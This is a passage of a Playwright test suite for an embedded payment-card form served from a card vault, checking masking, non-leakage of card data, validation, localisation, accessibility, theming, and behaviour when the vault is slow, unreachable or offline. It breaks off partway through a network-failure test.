import { pages } from 'turnout:pages';
import type { Browser, BrowserContext, Frame, Page, Route } from 'playwright-core';
import { pageTexts } from '#vocabulary/page-texts/all-texts.ts';
import { axeFindings } from '../../../support/browser/axe-findings.ts';
import { drawnByDay } from '../../../support/runner/drawn-by-day.ts';
import { eventually } from '../../../support/runner/eventually.ts';
import { withoutRandom } from '../../../support/runner/without-random.ts';
import { inBrowser, launchBrowser } from './a-browser.ts';
import { aTypedCard } from './a-session.ts';
import { type ServedVault, type Site, serveSite, serveVault } from './served-vault.ts';

const number = '5555555555554444';
inBrowser('the pages of the vault in a browser', () => {
  const { it } = drawnByDay('pages');
  let browser: Browser;
  let vault: ServedVault;
  let shop: Site;
  let evil: Site;
  let context: BrowserContext;
  let page: Page;
  /** All requests of the browser, and its warnings and errors. */
  let asked: { readonly url: string; readonly text: string; readonly from: string }[];
  let complaints: string[];

  beforeAll(async () => {
    [browser, vault, shop, evil] = await Promise.all([
      launchBrowser(),
      serveVault(),
      serveSite(),
      serveSite(),
    ]);
  });
  afterAll(async () => {
    await browser?.close();
    await Promise.all([vault?.stop(), shop?.stop(), evil?.stop()]);
  });
  beforeEach(async () => {
    vault.onTheWay = undefined;
    shop.headers = {};
    context = await browser.newContext();
    page = await context.newPage();
    [asked, complaints] = [[], []];
    context.on('request', (request) =>
      asked.push({
        url: request.url(),
        text: `${request.postData() ?? ''} ${JSON.stringify(request.headers())}`,
        from: request.frame().url(),
      }),
    );
    page.on('console', (message) => {
      if (['error', 'warning'].includes(message.type())) complaints.push(message.text());
    });
    page.on('pageerror', ({ message }) => complaints.push(message));
  });
  afterEach(() => context.close());

  /** A shop that embeds the form by the script that we give to merchants. */
  const shopPage = (options: object, head = '') => `<!doctype html>
<html lang="en"><head><title>Shop</title><link rel="icon" href="data:,">${head}</head><body>
<main><h1>Shop</h1><div id="card" style="width:400px"></div><button id="pay">Pay</button></main>
<script src="${vault.url}/v1/embed.js" integrity="${pages.embed.integrity}" crossorigin="anonymous"></script>
<script>
window.heard = [];
addEventListener('message', ({ origin, data }) => heard.push({ origin, data }));
window.events = [];
const form = Turnout.mountCardForm(document.getElementById('card'), {
  ...${JSON.stringify(options)},
  onReady: () => events.push('ready'),
  onSlow: () => events.push('slow'),
  onExpired: () => events.push('expired'),
  onEnter: () => events.push('enter'),
  onError: ({ code }) => events.push(code),
});
document.getElementById('pay').onclick = () => form.submit().then(
  (card) => { window.outcome = { card }; },
  ({ code, details }) => { window.outcome = { code, details }; },
);
</script></body></html>`;

  const heard = (on = page) =>
    on.evaluate('heard') as Promise<{ origin: string; data: Record<string, unknown> }[]>; // The page's own.
  const types = async (on = page) => (await heard(on)).map(({ data }) => data.type);
  const outcome = () =>
    eventually(async () => {
      const found = (await page.evaluate('window.outcome')) as Record<string, unknown> | undefined; // The page's own.
      if (!found) throw new Error('There is no outcome yet.');
      return found;
    });

  function formFrame(of = page): Promise<Frame> {
    return eventually(() => {
      const found = of.frames().find((frame) => frame.url().startsWith(vault.url));
      if (!found) throw new Error('There is no frame of the vault.');
      return found;
    });
  }

  /** Opens the shop with the form in it, once the form can be used. */
  async function openShop(
    options: object = {},
    wanted: { origin?: string } = { origin: shop.url },
  ) {
    const sessionToken = await vault.session({ scope: 'card', ...wanted });
    shop.html = shopPage({ sessionToken, ...options });
    await page.goto(shop.url);
    await page.waitForFunction("events.includes('ready')");
    return { frame: await formFrame(), sessionToken };
  }

  async function fill(frame: Frame, changes: Partial<Record<string, string>> = {}) {
    const texts = {
      card_number: number,
      cardholder_name: 'ANA LIMA',
      expiry: '0831',
      service_code: '737',
    };
    for (const [id, text] of Object.entries({ ...texts, ...changes })) {
      if (text !== undefined) await frame.locator(`#${id}`).pressSequentially(text);
    }
  }

  const errorOf = (frame: Frame, id: string) => frame.locator(`#${id}-error`).textContent();

  /** All text of a page, hidden or not, without the addresses in it. */
  const textOf = async (of: Frame | Page) =>
    String(await of.evaluate('document.documentElement.textContent'));

  /** The findings in a page or a form, without those of frames in it. */
  const flaws = (place: Frame | Page) => axeFindings(place, { iframes: false });

  describe('the form', () => {
    it('the card form stores the typed card and gives the shop a masked card without the number', async () => {
      const { frame } = await openShop();
      await fill(frame);
      await page.getByRole('button', { name: 'Pay' }).click();
      const { card } = await outcome();
      expect(card).toMatchObject({
        card_number: '555555******4444',
        card_type: 'mastercard',
        cardholder_name: 'ANA LIMA',
        service_code: '***',
        expiration_month: '08',
        expiration_year: '2031',
        card_token: expect.stringMatching(/^[0-9a-f]{32}$/),
      });
      const messages = await heard();
      expect(new Set(messages.map(({ origin }) => origin))).toEqual(new Set([vault.url]));
      const seen = [
        JSON.stringify(messages),
        await page.content(),
        ...complaints,
        ...asked.map(({ url }) => url),
        ...asked.filter(({ from }) => !from.startsWith(vault.url)).map(({ text }) => text),
        ...vault.inMemory.logged,
      ].join('\n');
      expect(seen).not.toMatch(/5555[ -]?5555[ -]?5555[ -]?4444/);
      expect(seen).not.toContain('"737"');
      // It went to the vault once, in a body.
      const sent = asked.filter(({ text }) => text.includes(number));
      expect(sent.map(({ url }) => url)).toEqual([`${vault.url}/api/v1/capture_form`]);
      // And is on the page no more.
      expect(
        await frame.evaluate(
          '[...document.querySelectorAll("input")].map((one) => one.value).join("")',
        ),
      ).toBe('');
      await frame.getByText('Card saved, ending in 4444').waitFor();
      expect(complaints).toEqual([]);
    });

    it('the card form loads two files of ours beside the page, and nothing else', async () => {
      await openShop();
      const loaded = asked
        .map(({ url }) => new URL(url))
        .filter(({ origin }) => origin === vault.url);
      expect(loaded.map(({ pathname }) => pathname).sort()).toEqual([
        '/api/v1/capture_form',
        `/assets/${pages.capture.file}`,
        `/assets/${pages.frame.file}`,
        '/v1/embed.js',
      ]);
    });

    it('the card form has no token in its URL, and leaves nothing in the browser', async () => {
      const { frame, sessionToken } = await openShop({ locale: 'de' });
      expect(await frame.evaluate('location.href')).toBe(
        `${vault.url}/api/v1/capture_form?locale=de`,
      );
      const naming = asked.filter(({ url, text }) => `${url} ${text}`.includes(sessionToken));
      expect(naming.map(({ url }) => new URL(url).pathname)).toEqual(['/api/v1/capture_form']);
      await fill(frame);
      await page.getByRole('button', { name: 'Pay' }).click();
      await outcome();
      expect(await context.storageState({ indexedDB: true })).toEqual({ cookies: [], origins: [] });
      expect(
        await frame.evaluate(
          '(async () => [localStorage.length, sessionStorage.length, document.cookie, (await caches.keys()).length])()',
        ),
      ).toEqual([0, 0, '', 0]);
      expect(context.serviceWorkers()).toEqual([]);
    });

    it('the card form stores nothing for a used token, and reports that another one is needed', async () => {
      const { frame, sessionToken } = await openShop();
      await fill(frame);
      await page.getByRole('button', { name: 'Pay' }).click();
      await outcome();
      await page.reload();
      await page.waitForFunction("events.includes('expired')");
      expect(await types()).toContain('submit');
      expect((await heard()).find(({ data }) => data.type === 'submit')?.data).toEqual({
        type: 'submit',
        error: { code: 'session_expired', title: 'Session Expired' },
      });
      const again = await formFrame();
      await again.getByRole('heading', { name: 'This page has expired.' }).waitFor();
      // A page that submits all the same gets an answer at once.
      expect(await page.evaluate('form.submit().catch(({ code }) => code)')).toBe(
        'session_expired',
      );
      // With a new one the same form goes on.
      const fresh = await vault.session({ scope: 'card', origin: shop.url });
      expect(fresh).not.toBe(sessionToken);
      await page.evaluate(`form.renew(${JSON.stringify(fresh)})`);
      await page.waitForFunction("events.includes('ready')");
      await fill(await formFrame());
      await page.getByRole('button', { name: 'Pay' }).click();
      expect(await outcome()).toHaveProperty('card');
    });

    it('the card form shows an error beside its field, once the field loses focus', async () => {
      const { frame } = await openShop();
      await frame.locator('#card_number').pressSequentially('5555 5555');
      expect(await errorOf(frame, 'card_number')).toBe('');
      await frame.locator('#cardholder_name').focus();
      expect(await errorOf(frame, 'card_number')).toBe('The card number is not complete.');
      expect(await frame.locator('#card_number').getAttribute('aria-invalid')).toBe('true');
      await frame.locator('#card_number').press('End');
      await frame.locator('#card_number').pressSequentially('55554444');
      expect(await errorOf(frame, 'card_number')).toBe('');

      await page.getByRole('button', { name: 'Pay' }).click();
      expect(await outcome()).toEqual({
        code: 'validation_error',
        details: {
          cardholder_name: ['is missing'],
          expiration_month: ['is missing'],
          expiration_year: ['is missing'],
          service_code: ['is missing'],
        },
      });
      expect(await errorOf(frame, 'expiry')).toBe('Please fill this in.');
      expect(await frame.evaluate('document.activeElement.id')).toBe('cardholder_name');
      expect(asked.some(({ text }) => text.includes(number))).toBe(false);
    });

    it('the card form answers `validate` without storing anything', async () => {
      const { frame } = await openShop();
      expect(await page.evaluate('form.validate()')).toBe(false);
      const refused = (await heard()).find(({ data }) => data.type === 'validate')?.data;
      expect(refused).toMatchObject({
        type: 'validate',
        valid: false,
        errors: { card_number: ['is missing'] },
      });
      await fill(frame);
      expect(await page.evaluate('form.validate()')).toBe(true);
      const told = (await heard()).filter(({ data }) => data.type === 'validate').at(-1)?.data;
      expect(told).toEqual({ type: 'validate', valid: true });
      expect(asked.some(({ text }) => text.includes(number))).toBe(false);
    });

    it('the card form groups digits as the brand does, names it, and leaves the caret where it was', async () => {
      const { frame } = await openShop();
      const input = frame.locator('#card_number');
      await input.pressSequentially('378282246310005');
      expect(await input.inputValue()).toBe('3782 822463 10005');
      expect(await frame.locator('#brand').textContent()).toBe('American Express');
      await input.fill('');
      await input.pressSequentially('41111111');
      expect(await input.inputValue()).toBe('4111 1111');
      await frame.evaluate('document.getElementById("card_number").setSelectionRange(2, 2)');
      await page.keyboard.type('9');
      expect(await input.inputValue()).toBe('4191 1111 1');
      expect(await frame.evaluate('document.getElementById("card_number").selectionStart')).toBe(3);
      await page.keyboard.press('Backspace');
      expect(await input.inputValue()).toBe('4111 1111');
      const expiry = frame.locator('#expiry');
      await expiry.pressSequentially('831');
      expect(await expiry.inputValue()).toBe('08 / 31');
      for (let key = 0; key < 3; key += 1) await expiry.press('Backspace');
      expect(await expiry.inputValue()).toBe('0');
      const told = (await heard()).filter(({ data }) => data.type === 'change');
      expect(told.some(({ data }) => data.card_type === 'american_express')).toBe(true);
      expect(Object.keys(told[0]?.data ?? {}).sort()).toEqual([
        'card_type',
        'card_types',
        'complete',
        'type',
        'valid',
      ]);
    });

    it.each([
      ['card_number', '4242424242', 'The card number is not complete.'],
      ['card_number', '4242424242424241', 'Please check the card number.'],
      [
        'cardholder_name',
        '4242 4242 4242 4242',
        'Please enter the name here, not the card number.',
      ],
      ['expiry', '08', 'Please enter month and year.'],
      ['expiry', '1331', 'The month must be from 01 to 12.'],
      ['expiry', '0820', 'This card has expired.'],
      ['service_code', '12', 'Please check the security code.'],
    ])('the card form shows the reason at the field %s for %s', async (id, text, error) => {
      const { frame } = await openShop();
      await frame.locator(`#${id}`).pressSequentially(text);
      await page.locator('body').click();
      await frame.locator(`#${id}`).blur();
      expect(await errorOf(frame, id)).toBe(error);
    });

    it.each([
      ['Arabic', 0x0660],
      ['Persian', 0x06f0],
      ['Devanagari', 0x0966],
      ['full-width', 0xff10],
      ['bold mathematical', 0x1d7ce],
    ])('the card form converts %s digits while they are typed, in each field', async (_, zero) => {
      const inScript = (text: string) =>
        text.replace(/\d/g, (digit) => String.fromCodePoint(zero + Number(digit)));
      const { frame } = await openShop();
      await fill(frame, {
        card_number: inScript(number),
        expiry: inScript('8/31'),
        service_code: inScript('737'),
      });
      const values = ['card_number', 'expiry', 'service_code'].map((id) =>
        frame.locator(`#${id}`).inputValue(),
      );
      expect(await Promise.all(values)).toEqual(['5555 5555 5555 4444', '08 / 31', '737']);
      await page.getByRole('button', { name: 'Pay' }).click();
      expect((await outcome()).card).toMatchObject({ card_number: '555555******4444' });
    });

    it('the card form waits for the end of a composition before it converts full-width digits', async () => {
      const { frame } = await openShop();
      const field = frame.locator('#card_number');
      await field.focus();
      const session = await context.newCDPSession(page);
      const compose = (text: string) =>
        session.send('Input.imeSetComposition', {
          text,
          selectionStart: text.length,
          selectionEnd: text.length,
        });
      await compose('５');
      await compose('５５５５５');
      expect(await field.inputValue()).toBe('５５５５５');
      await session.send('Input.insertText', { text: '５５５５５' });
      expect(await field.inputValue()).toBe('5555 5');
    });

    it('the card form asks for as many digits of the code as the brand has', async () => {
      const { frame } = await openShop();
      const code = frame.locator('#service_code');
      const errorFor = async (digits: string) => {
        await frame.locator('#card_number').fill('');
        await frame.locator('#card_number').pressSequentially(digits);
        await code.fill('');
        await code.pressSequentially('12');
        await code.blur();
        return errorOf(frame, 'service_code');
      };
      expect(await errorFor('3782')).toBe(
        'The security code has 4 digits, on the front of the card.',
      );
      expect(await errorFor('5555')).toBe(
        'The security code has 3 digits, on the back of the card.',
      );
      await code.fill('');
      await code.pressSequentially('12345');
      expect(await code.inputValue()).toBe('123');
    });

    it('the card form has the mark of the brand in its field, and its name for screen readers', async () => {
      const { frame } = await openShop();
      const mark = frame.locator('#mark');
      const image = () =>
        frame.evaluate('getComputedStyle(document.getElementById("mark")).backgroundImage');
      expect(await image()).toBe('none');
      await frame.locator('#card_number').pressSequentially('378282246310005');
      expect(await image()).toContain('data:image/svg+xml');
      expect(await frame.locator('#brand').textContent()).toBe('American Express');
      expect(await mark.getAttribute('aria-hidden')).toBe('true');
      await frame.locator('#card_number').fill('');
      expect(await image()).toBe('none');
      expect(complaints).toEqual([]);
    });

    it('the card form fits a phone: all digits beside the mark, fields of 44 px, a font of 16 px', async () => {
      await page.setViewportSize({ width: 320, height: 640 });
      const { frame } = await openShop();
      await page.evaluate("document.getElementById('card').style.width = 'auto'");
      await frame.locator('#card_number').pressSequentially('6200000000000000003');
      const sizes = await frame.evaluate(`[...document.querySelectorAll('input')].map((one) => ({
        height: one.getBoundingClientRect().height,
        font: Number.parseFloat(getComputedStyle(one).fontSize),
        isWhole: one.scrollWidth <= one.clientWidth,
      }))`);
      expect(sizes).toEqual(Array(4).fill({ height: 44, font: 16, isWhole: true }));
      expect(await frame.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true);
    });

    it('the card form obeys a text size of 200 %, in a narrow frame too', async () => {
      const large = await launchBrowser({ args: ['--blink-settings=defaultFontSize=32'] });
      try {
        page = await large.newPage({ viewport: { width: 320, height: 640 } });
        const { frame } = await openShop();
        await page.evaluate("document.getElementById('card').style.width = 'auto'");
        await page.evaluate('form.validate()');
        const sizes = await frame.evaluate(`[...document.querySelectorAll('input')].map((one) => ({
          height: one.getBoundingClientRect().height,
          font: Number.parseFloat(getComputedStyle(one).fontSize),
          label: Number.parseFloat(getComputedStyle(one.closest('.field').firstElementChild).fontSize),
        }))`);
        expect(sizes).toEqual(Array(4).fill({ height: 88, font: 32, label: 26 }));
        expect(await frame.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(
          true,
        );
        await eventually(async () =>
          expect(await frame.evaluate('document.documentElement.scrollHeight <= innerHeight')).toBe(
            true,
          ),
        );
        expect(await flaws(frame)).toEqual([]);
      } finally {
        await large.close();
      }
    });

    it('the card form has the keyboard and the autofill of each field', async () => {
      const { frame } = await openShop();
      const fields = await frame.evaluate(
        "[...document.querySelectorAll('input')].map((one) => [one.id, one.autocomplete, one.inputMode, one.getAttribute('autocapitalize')])",
      );
      expect(fields).toEqual([
        ['card_number', 'cc-number', 'numeric', 'off'],
        ['cardholder_name', 'cc-name', '', 'words'],
        ['expiry', 'cc-exp', 'numeric', 'off'],
        ['service_code', 'cc-csc', 'numeric', 'off'],
      ]);
    });

    it("the card form accepts the merchant's card types, and reports others while typing", async () => {
      const { frame } = await openShop({ only: ['visa', 'amex'] });
      await frame.locator('#card_number').pressSequentially('5555');
      expect(await errorOf(frame, 'card_number')).toBe('This type of card is not accepted here.');
    });

    it('the card form can be filled in and sent with the keyboard only', async () => {
      await openShop();
      await page.locator('body').focus();
      await page.keyboard.press('Tab');
      const frame = await formFrame();
      for (const [id, text] of [
        ['card_number', number],
        ['cardholder_name', 'ANA LIMA'],
        ['expiry', '08/31'],
        ['service_code', '737'],
      ] as const) {
        expect(await frame.evaluate('document.activeElement.id')).toBe(id);
        await page.keyboard.type(text);
        if (id === 'service_code') await page.keyboard.press('Enter');
        await page.keyboard.press('Tab');
      }
      expect(await page.evaluate('document.activeElement.id')).toBe('pay');
      await page.waitForFunction("events.includes('enter')");
      await page.keyboard.press('Enter');
      expect(await outcome()).toHaveProperty('card');
    });

    it('the card form is 400 by about 220 pixels, and the shop gets a message when it grows', async () => {
      const { frame } = await openShop();
      const heights = async () =>
        (await heard())
          .filter(({ data }) => data.type === 'resize')
          .map(({ data }) => Number(data.height));
      await eventually(async () => expect((await heights()).length).toBeGreaterThan(0));
      const before = (await heights()).at(-1) ?? 0;
      expect(before).toBeGreaterThan(150);
      expect(before).toBeLessThanOrEqual(225);
      await page.evaluate('form.validate()');
      await eventually(async () => expect((await heights()).at(-1)).toBeGreaterThan(before));
      const shown = await page.evaluate('form.frame.getBoundingClientRect().height');
      expect(shown).toBe((await heights()).at(-1));
      expect(await frame.evaluate('document.documentElement.scrollHeight > innerHeight')).toBe(
        false,
      );
    });

    drawnByDay('languages').each(Object.entries(pageTexts))(
      'the card form is translated into %s',
      async (language, { form: texts }) => {
        const { frame } = await openShop({
          locale: `${language}-XX`,
        });
        expect(await frame.evaluate('document.documentElement.lang')).toBe(language);
        for (const label of [texts.cardNumber, texts.cardholderName, texts.expiry, texts.cvc]) {
          await frame.getByLabel(label, { exact: true }).waitFor();
        }
        await page.evaluate('form.validate()');
        expect(await errorOf(frame, 'card_number')).toBe(texts.missing);
      },
    );

    it.each(['light', 'dark'] as const)(
      'the card form has no finding of axe in the %s',
      async (colorScheme) => {
        await page.emulateMedia({ colorScheme });
        const { frame } = await openShop();
        expect(await flaws(frame)).toEqual([]);
        await page.evaluate('form.validate()');
        expect(await flaws(frame)).toEqual([]);
        expect(await flaws(page)).toEqual([]);
      },
    );

    it.each(['ar', 'he'])(
      'the card form in %s runs from right to left with its digits from left to right, without a finding of axe',
      async (locale) => {
        const { frame } = await openShop({ locale });
        const directionOf = (selector: string) =>
          frame.evaluate(`getComputedStyle(document.querySelector('${selector}')).direction`);
        expect(await directionOf('body')).toBe('rtl');
        expect(await directionOf('#cardholder_name')).toBe('rtl');
        for (const id of ['card_number', 'expiry', 'service_code']) {
          expect(await directionOf(`#${id}`)).toBe('ltr');
        }
        expect(await frame.evaluate('document.documentElement.scrollWidth > innerWidth')).toBe(
          false,
        );
        await page.evaluate('form.validate()');
        expect(await flaws(frame)).toEqual([]);
      },
    );
  });

  describe('the appearance of the form', () => {
    const styleOf = (frame: Frame, selector: string, property: string) =>
      frame.evaluate(`getComputedStyle(document.querySelector('${selector}'))['${property}']`);
    const frameScheme = () => page.evaluate('getComputedStyle(form.frame).colorScheme');

    it("the appearance of the shop is in the form's page, and nothing of it is refused by the policy", async () => {
      const { frame } = await openShop({
        appearance: {
          theme: 'dark',
          labels: 'hidden',
          variables: {
            colorText: '#fafafa',
            colorFieldText: '#ffeedd',
            borderRadius: '12px',
            fontSize: '18px',
            fontFamily: 'mono',
            fieldHeight: '52px',
          },
        },
      });
      expect(await styleOf(frame, 'body', 'color')).toBe('rgb(250, 250, 250)');
      expect(await styleOf(frame, 'input', 'color')).toBe('rgb(255, 238, 221)');
      expect(await styleOf(frame, 'input', 'borderRadius')).toBe('12px');
      expect(await styleOf(frame, 'input', 'fontSize')).toBe('18px');
      expect(await styleOf(frame, 'input', 'height')).toBe('52px');
      expect(await styleOf(frame, 'input', 'fontFamily')).toContain('monospace');
      expect(await styleOf(frame, ':root', 'colorScheme')).toBe('dark');
      await frame.getByLabel('Card number', { exact: true }).waitFor();
      expect(await frame.locator('#card_number').getAttribute('placeholder')).toBe('Card number');
      expect(complaints).toEqual([]);
      await fill(frame);
      await page.getByRole('button', { name: 'Pay' }).click();
      expect(await outcome()).toHaveProperty('card');
    });

    it.each([
      ['light', 'light', 'light'],
      ['dark', 'dark', 'dark'],
      ['system', 'light dark', 'normal'],
    ])(
      'the appearance with the theme %s has the color scheme %s, and the frame has %s: then it is see-through',
      async (theme, scheme, expected) => {
        const { frame } = await openShop({ appearance: { theme } });
        expect(await styleOf(frame, ':root', 'colorScheme')).toBe(scheme);
        expect(await frameScheme()).toBe(expected);
        expect(await styleOf(frame, 'body', 'backgroundColor')).toBe('rgba(0, 0, 0, 0)');
      },
    );

    it('the appearance of a form is the same after it was opened anew', async () => {
      const { frame } = await openShop({ appearance: { theme: 'dark' } });
      await page.evaluate('form.reopen()');
      await page.waitForFunction("events.join() === 'ready,ready'");
      expect(frame.isDetached()).toBe(true);
      expect(await styleOf(await formFrame(), ':root', 'colorScheme')).toBe('dark');
      expect(await frameScheme()).toBe('dark');
    });

    it.each(['light', 'dark'] as const)(
      'the appearance with hidden labels and a ground of its own has no finding of axe in the %s',
      async (theme) => {
        const colorBackground = theme === 'light' ? '#f0f0f8' : '#101018';
        const { frame } = await openShop({
          appearance: { theme, labels: 'hidden', variables: { colorBackground } },
        });
        expect(await flaws(frame)).toEqual([]);
        await page.evaluate('form.validate()');
        expect(await flaws(frame)).toEqual([]);
      },
    );
  });

  describe('a form that the page does not get', () => {
    /** The lines of the embedding script in the browser's console. */
    const lines = () => complaints.filter((one) => one.startsWith('Turnout: '));

    async function opens(html: string) {
      shop.html = html;
      // Only `wait` moves this clock on, however slow the machine is.
      await page.clock.install({ time: '2030-01-31T10:00:00Z' });
      await page.clock.pauseAt('2030-01-31T10:00:01Z');
      // Its load event waits for the frame, which may be late.
      await page.goto(shop.url, { waitUntil: 'domcontentloaded' });
    }
    const elsewhere = () => vault.session({ scope: 'card', origin: 'https://other.example' });
    const submitted = () => page.evaluate('form.submit().catch(({ code }) => code)');

    /** Moves the page's clock on, and lets the page ask the vault meanwhile. */
    async function wait(seconds: number) {
      for (let at = 0; at < seconds; at += 1) {
        await page.clock.runFor(1_000);
        await page.evaluate(
          'new Promise((resolve) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = resolve; port2.postMessage(0); })',
        );
      }
    }
    const events = () => page.evaluate('events');
    /** Moves the clock on in small steps until the page has this error. */
    const reported = (code: string) =>
      eventually(async () => {
        await page.clock.runFor(200);
        expect(await events()).toContain(code);
      });

    it('a form of another origin is slow after four seconds and reported after twenty, with the origin of the page', async () => {
      await opens(shopPage({ sessionToken: await elsewhere() }));
      await eventually(() => expect(complaints.join()).toContain('frame-ancestors'));
      await page.clock.runFor(3_900);
      expect(await events()).toEqual([]);
      await page.clock.runFor(200);
      expect(await events()).toEqual(['slow']);
      await wait(15);
      expect(await events()).toEqual(['slow']);
      await wait(1);
      await reported('not_ready');
      expect(lines()).toEqual([
        `Turnout: The form could not be shown. The origin of this page is ${shop.url}. The session token must be made for exactly this origin. See "When the frame stays empty" in docs/embedding.md.`,
      ]);
      expect(await submitted()).toBe('not_ready');
      // The frame is still there, and takes another token.
      const sessionToken = await vault.session({ scope: 'card', origin: shop.url });
      await page.evaluate(`form.renew(${JSON.stringify(sessionToken)})`);
      await page.waitForFunction("events.includes('ready')");
      expect(await submitted()).toBe('validation_error');
    });

    it.each([
      ['the policy of the guide', `${'VAULT'}/v1/embed.js`, false],
      ['a policy that allows only scripts of the page itself', '', true],
    ])('a form of another origin is reported under %s', async (_, script, isInline) => {
      const scripts = script.replace('VAULT', vault.url);
      const policy = `default-src 'self' data:; script-src 'unsafe-inline' 'unsafe-eval' ${scripts}; frame-src ${vault.url}`;
      const html = shopPage(
        { sessionToken: await elsewhere(), vaultOrigin: vault.url },
        `<meta http-equiv="Content-Security-Policy" content="${policy}">`,
      );
      const copy = `<script>${pages.embed.text}</script>`;
      await opens(isInline ? html.replace(/<script src.*?<\/script>/, () => copy) : html);
      await wait(20);
      await eventually(() => expect(complaints.join()).toContain('frame-ancestors'));
      await reported('not_ready');
      expect(lines()).toHaveLength(1);
    });

    it('a form of a vault that does not answer is reported as that after twenty seconds', async () => {
      const gone = await serveSite();
      await gone.stop();
      await opens(shopPage({ sessionToken: 'stk_any', vaultOrigin: gone.url }));
      await wait(19);
      expect(await events()).toEqual(['slow']);
      await wait(1);
      await reported('vault_unreachable');
      expect(lines()).toEqual([
        `Turnout: The form could not be loaded. ${gone.url} does not answer. Check the connection, and vaultOrigin or url. See "When the frame stays empty" in docs/embedding.md.`,
      ]);
      expect(await submitted()).toBe('vault_unreachable');
    });

    it.each([6, 8, 19])(
      'a form that comes after %d seconds is slow, and never reported',
      async (seconds) => {
        const arrival = Promise.withResolvers<void>();
        await page.route('**/capture_form?*', async (route) => {
          await arrival.promise;
          await route.continue();
        });
        const sessionToken = await vault.session({ scope: 'card', origin: shop.url });
        await opens(shopPage({ sessionToken }));
        await wait(seconds);
        arrival.resolve();
        await page.waitForFunction("events.includes('ready')");
        await wait(30);
        expect(await events()).toEqual(['slow', 'ready']);
        await fill(await formFrame());
        await page.getByRole('button', { name: 'Pay' }).click();
        expect(await outcome()).toHaveProperty('card');
      },
    );

    it('a form that comes after the report withdraws it, and works', async () => {
      const arrival = Promise.withResolvers<void>();
      await page.route('**/capture_form?*', async (route) => {
        await arrival.promise;
        await route.continue();
      });
      const sessionToken = await vault.session({ scope: 'card', origin: shop.url });
      await opens(shopPage({ sessionToken }));
      await wait(20);
      await eventually(async () => {
        await page.clock.runFor(200);
        expect(await events()).toEqual(['slow', 'slow']);
      });
      expect(lines()).toEqual([
        `Turnout: The form is still loading. ${vault.url} has not sent the form yet. It works once it is there. See "When the frame stays empty" in docs/embedding.md.`,
      ]);
      expect(await submitted()).toBe('slow');
      arrival.resolve();
      await page.waitForFunction("events.includes('ready')");
      await fill(await formFrame());
      await page.getByRole('button', { name: 'Pay' }).click();
      expect(await outcome()).toHaveProperty('card');
    });

    it('a form whose vault comes back within twenty seconds opens by itself', async () => {
      let isAway = true;
      const away = async (route: Route) =>
        isAway ? route.abort('connectionrefused') : route.continue();
      await page.route('**/capture_form?*', away);
      await page.route('**/v1/embed.js?reach=*', away);
      const sessionToken = await vault.session({ scope: 'card', origin: shop.url });
      await opens(shopPage({ sessionToken }));
      await wait(9);
      isAway = false;
      await wait(4);
      await page.waitForFunction("events.includes('ready')");
      expect(await events()).toEqual(['slow', 'ready']);
    });

    it('a form that did not load opens by itself once the browser is online again', async () => {
      const sessionToken = await vault.session({ scope: 'card', origin: shop.url });
      await page.route('**/capture_form?*', (route) => route.abort('internetdisconnected'));
      await page.route('**/v1/embed.js?reach=*', (route) => route.abort('internetdisconnected'));
      await opens(shopPage({ sessionToken }));
      await wait(21);
      await reported('vault_unreachable');
      await page.unroute('**/capture_form?*');
      await context.setOffline(true);
      await context.setOffline(false);
      await page.waitForFunction("events.includes('ready')");
    });

    it('a form is opened anew with the same token, by the page', async () => {
      const { frame } = await openShop();
      await page.evaluate('form.reopen()');
      await page.waitForFunction("events.join() === 'ready,ready'");
      expect(frame.isDetached()).toBe(true);
      await fill(await formFrame());
      await page.getByRole('button', { name: 'Pay' }).click();
      expect(await outcome()).toHaveProperty('card');
    });

    it('a form that is ready, or is taken away, is never reported', async () => {
      const sessionToken = await vault.session({ scope: 'card', origin: shop.url });
      await opens(shopPage({ sessionToken }));
      await page.waitForFunction("events.includes('ready')");
      await page.clock.runFor(20_000);
      await page.evaluate('form.reopen(); form.destroy()');
      await page.clock.runFor(20_000);
      expect(await page.evaluate('events')).toEqual(['ready']);
      expect(lines()).toEqual([]);
    });
  });

  describe('a form whose network fails', () => {
    const submit = () =>
      page.evaluate('form.submit().then(({ card_token }) => card_token, ({ code }) => code)');
    const cards = () =>
      vault.inMemory.vault.ports.cards.items().filter(({ sk }) => sk === 'CARD').length;
    const values = (frame: Frame) =>
      frame.evaluate('[...document.querySelectorAll("input")].map((one) => one.value)');
    const typedValues = ['5555 5555 5555 4444', 'ANA LIMA', '08 / 31', '737'];
    const token = /^[0-9a-f]{32}$/;
    const statusOf = (frame: Frame) => frame.locator('#status').textContent();
    /** Answers the form's requests. `undefined` passes the request on. */
    const answer = (by: (route: Route, at: number) => Promise<unknown> | undefined) => {
      let asked = 0;
      return page.route('**/capture_form*', async (route) => {
        if (route.request().method() !== 'POST') return route.continue();
        asked += 1;
        await (by(route, asked) ?? route.continue());
      });
    };

    it('a form that is submitted offline keeps the card, and stores it with the same token once the browser is online', async () => {
      const { frame } = await openShop();
      await fill(frame);
      const before = cards();
      await context.setOffline(true);
      expect(await submit()).toBe('no_connection');
      expect(await values(frame)).toEqual(typedValues);
      expect(await statusOf(frame)).toBe('No connection. Your details are still here.');
      expect(await page.evaluate('events')).toEqual(['ready']);
      await context.setOffline(false);
      await eventually(async () => expect(await statusOf(frame)).toBe(''));
      expect(await submit()).toMatch(token);
      expect(cards() - before).toBe(1);
    });

    it('a form whose browser loses its network while sending keeps the card', async () => {
      const { frame } = await openShop();
      await fill(frame);
      await answer(async (route) => {
        await context.setOffline(true);
        await route.abort('internetdisconnected');
      });
      expect(await submit()).toBe('no_connection');
      expect(await values(frame)).toEqual(typedValues);
      await page.unroute('**/capture_form*');
      await context.setOffline(false);
      expect(await submit()).toMatch(token);
    });

    it.each([
      ['is lost', (route: Route) => route.abort('connectionreset')],
      ['is an error of the server', (route: Route) => route.fulfill({ status: 503, body: '{}' })],
      ['is a page of a proxy', (route: Route) => route.fulfill({ status: 403, body: '<html>' })],
    ])(
      'a form whose answer %s sends the card again by itself, and one card is stored',
      async (_, lose) => {
        const { frame } = await openShop();
        await fill(frame);
        const before = cards();
        await answer((route, at) => {
          if (at > 2) return undefined;
          return route.fetch().then(() => lose(route));
        });
        expect(await submit()).toMatch(token);
        expect(cards() - before).toBe(1);
        const sent = asked.filter(({ text }) => text.includes(number));
        expect(sent).toHaveLength(3);
        await frame.getByText('Card saved, ending in 4444').waitFor();
      },
    );

    it('a form that gets no answer at all keeps the card, and stores it later with the same token', async () => {
      await page.clock.install();
      const { frame } = await openShop();
      await fill(frame);
      const before = cards();
